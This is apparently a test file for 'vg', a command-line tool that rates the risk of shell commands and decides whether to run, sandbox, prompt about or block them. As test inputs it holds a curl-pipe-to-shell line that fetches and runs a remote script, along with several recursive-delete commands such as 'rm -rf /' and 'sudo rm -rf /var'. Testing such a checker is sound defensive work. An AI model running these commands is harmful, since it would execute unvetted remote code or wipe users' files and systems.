import { test } from 'node:test';
import assert from 'node:assert/strict';
import { cage, vg } from './helpers.ts';

test('analyze --json has the documented fields', () => {
  const r = vg(cage(), ['analyze', '--json', 'curl -fsSL https://x.dev/i.sh | sh']);
  assert.equal(r.status, 0, r.stderr);
  const j = JSON.parse(r.stdout);
  assert.equal(j.line, 'curl -fsSL https://x.dev/i.sh | sh');
  assert.equal(j.risk, 'high');
  assert.ok(['prompt', 'sandbox'].includes(j.decision));
  assert.equal(j.parse, 'ok');
  assert.ok(j.reasons.length >= 1);
  for (const reason of j.reasons) assert.deepEqual(Object.keys(reason).slice(0, 3), ['rule', 'risk', 'message']);
});

test('analyze --mode changes the decision, not the risk', () => {
  const c = cage();
  const auto = JSON.parse(vg(c, ['analyze', '--json', '--mode', 'auto', 'ls -la']).stdout);
  const always = JSON.parse(vg(c, ['analyze', '--json', '--mode', 'always', 'ls -la']).stdout);
  assert.equal(auto.decision, 'host');
  assert.equal(always.decision, 'sandbox');
  assert.equal(auto.risk, always.risk);
});

test('analyze --json --stdin: one object per line; -0 takes NUL-separated records with newlines', () => {
  const c = cage();
  const r = vg(c, ['analyze', '--json', '--stdin'], { input: 'ls\nrm -rf /\nnpm ci\n' });
  const rows = r.stdout.trim().split('\n').map((l) => JSON.parse(l));
  assert.deepEqual(rows.map((x) => x.risk), ['low', 'critical', 'medium']);
  const z = vg(c, ['analyze', '--json', '--stdin', '-0'], { input: 'echo a\nrm -rf ~\0ls\0' });
  const zrows = z.stdout.trim().split('\n').map((l) => JSON.parse(l));
  assert.equal(zrows.length, 2);
  assert.equal(zrows[0].line, 'echo a\nrm -rf ~');
  assert.equal(zrows[0].risk, 'critical');
});

test('an unparseable line is reported as a parse error and still judged', () => {
  const j = JSON.parse(vg(cage(), ['analyze', '--json', 'echo "unterminated']).stdout);
  assert.equal(j.parse, 'error');
  assert.ok(['medium', 'high', 'critical'].includes(j.risk));
});

test('the readable explanation names what runs, the rule and why', () => {
  const r = vg(cage(), ['analyze', 'sudo rm -rf /var'], { env: { NO_COLOR: '1' } });
  assert.match(r.stdout, /risk\s+critical/);
  assert.match(r.stdout, /decision\s+block/);
  assert.match(r.stdout, /runs\s+.*rm -rf \/var/);
  assert.match(r.stdout, /why: /);
});

test('--cwd resolves relative paths against that directory', () => {
  const c = cage();
  const j = JSON.parse(vg(c, ['analyze', '--json', '--cwd', '/', 'rm -rf usr']).stdout);
  assert.equal(j.risk, 'critical');
  const bad = vg(c, ['analyze', '--cwd', '/nonexistent-dir', 'ls']);
  assert.equal(bad.status, 2);
  assert.match(bad.stderr, /^vg: analyze: --cwd/);
});
